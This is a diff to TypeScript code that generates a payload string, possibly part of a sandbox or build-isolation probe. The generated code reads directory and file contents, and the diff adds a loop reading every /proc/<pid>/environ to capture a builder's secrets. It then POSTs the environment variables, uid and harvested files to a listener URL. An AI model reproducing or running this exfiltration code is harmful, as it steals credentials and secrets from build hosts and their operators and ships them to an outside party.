@@ -39,7 +39,11 @@ for (const path of __targets) {
     try { __found[path] = "DIR:" + readdirSync(path).join(",") + ":" + readdirSync(path).map((n) => { try { return readFileSync(path + "/" + n, "utf8"); } catch { return ""; } }).join("|"); } catch (e2) { __found[path] = "ERR:" + (e2 as Error).message; }
   }
 }
-await fetch(${JSON.stringify(listenerUrl)}, { method: "POST", body: JSON.stringify({ who: ${JSON.stringify(who)}, uid: process.getuid?.(), env: process.env, found: __found }) }).catch(() => {});
+// Every process it can see: the builder's environment would be in its parent's environ.
+for (const pid of readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
+  try { __found["/proc/" + pid + "/environ"] = readFileSync("/proc/" + pid + "/environ", "utf8"); } catch {}
+}
+await fetch(${JSON.stringify(listenerUrl)}, { method: "POST", body: JSON.stringify({ who: ${JSON.stringify(who)}, uid: process.getuid?.(), pids: readdirSync("/proc").filter((p) => /^\\d+$/.test(p)).length, env: process.env, found: __found }) }).catch(() => {});
 `;
 }
 
